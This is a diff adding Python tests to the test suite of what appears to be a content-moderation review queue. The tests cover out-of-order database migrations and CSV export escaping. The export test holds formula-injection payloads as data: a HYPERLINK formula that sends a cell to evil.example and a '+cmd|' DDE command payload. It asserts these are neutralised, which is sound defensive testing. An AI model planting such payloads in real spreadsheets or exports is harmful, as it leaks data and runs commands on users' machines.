@@ -537,6 +537,53 @@ def test_migrations_are_idempotent_and_ordered(backend):
         assert {"review_items_decided", "review_items_created"} <= names
 
 
+def test_a_version_merged_after_a_newer_one_is_still_applied(backend):
+    """Versions are assigned to branches that merge in any order: 9 (issue 25) reached main before 8 (issue 29,
+    points 5-7), so a database migrated by main is at 9 without 8.  Opening it applies 8 (it used to be skipped:
+    only versions above the newest applied one ran)."""
+    without_8 = tuple(m for m in MIGRATIONS if m.version != 8)
+    assert len(without_8) == len(MIGRATIONS) - 1
+    first = backend.open(migrations=without_8)
+    add(first, 1)
+    first.close()
+    assert 8 not in _versions(backend)
+    q = backend.open()
+    assert _versions(backend) == [m.version for m in MIGRATIONS]
+    item, _ = q.enqueue_for("c", sha(2), "upload", SCORES, MODEL, "unknown", key_id="key:0123456789abcdef")
+    with q._tx(write=False) as tx:  # migration 8's column is there
+        assert tx.one("SELECT client_key FROM review_items WHERE id = ?", (item,)) == ("key:0123456789abcdef",)
+    assert q.counts()["pending"] == 2
+
+
+def test_migration_10_is_applied_to_a_database_main_migrated_to_11(backend):
+    """Issue 26's migration 10 (adapters, example sets, embeddings) reached main after 8, 9 and 11 (videos): a
+    database main migrated is at 1-9 and 11.  Opening it applies 10, and both sides' columns work together: a
+    decided video item is remembered with its media (11) and its deciding frame's embedding (10)."""
+    import numpy as np
+
+    from nsfw_core.state.adapters import Adapters
+    from nsfw_core.state.known import KnownImages
+
+    without_10 = tuple(m for m in MIGRATIONS if m.version != 10)
+    first = backend.open(migrations=without_10)
+    add(first, 1)
+    first.close()
+    assert 10 not in _versions(backend) and 11 in _versions(backend)
+    q = backend.open()
+    assert _versions(backend) == [m.version for m in MIGRATIONS]
+    item, _ = q.enqueue_for("c", sha(2), "upload", SCORES, MODEL, "unknown", phash="ab" * 32, media="video",
+                            key_id="key:0123456789abcdef")
+    embedding = np.linspace(-1.0, 1.0, 1792, dtype=np.float32)
+    Adapters(q.pool).save_item_embedding(item, MODEL, "v1", embedding)
+    q.decide(item, "rev", "neutral", seen=sha(2))
+    match = KnownImages(q.pool).lookup(sha(2), None)
+    assert match is not None and (match.review_id, match.embedded, match.model_version) == (item, True, "v1")
+    with q._tx(write=False) as tx:
+        assert tx.one("SELECT media, embedding <> '' FROM known_images WHERE review_id = ?", (item,)) in (
+            ("video", 1), ("video", True))
+    assert q.counts()["pending"] == 1
+
+
 def test_concurrent_first_open_migrates_once(backend):
     errors: list[BaseException] = []
     barrier = threading.Barrier(4)
@@ -810,6 +857,18 @@ def test_move_aside_never_overwrites(tmp_path):
         assert move_aside(tmp_path / "db", ("", "-wal"), when) == [
             (tmp_path / "db", tmp_path / ("db.corrupt-20261201T011500Z" + ("" if n == 0 else f"-{n + 1}")))]
     assert sorted(p.read_bytes() for p in tmp_path.iterdir()) == [b"0", b"1", b"2"]
+
+
+def test_export_csv_writes_formulas_as_text(q):
+    """Issue 29, point 7: a source such as =HYPERLINK(...) (any client picks it: an upload's name, a URL) ran as a
+    formula in the spreadsheet the export was opened in."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    for n, source in enumerate([evil, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "https://example.com/ok.jpg"]):
+        q.decide(add(q, n, source=source), "r1", "safe")
+    rows = list(csv.DictReader(io.StringIO(q.export_csv())))
+    assert [r["path"] for r in rows] == ["'" + evil, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3",
+                                         "https://example.com/ok.jpg"]
+    assert all(not r[c].startswith("'") for r in rows for c in CLASS_NAMES)  # numbers stay numbers
 
 
 # ---------------------------------------------------------------- issue 29: review ids, quotas, audiences
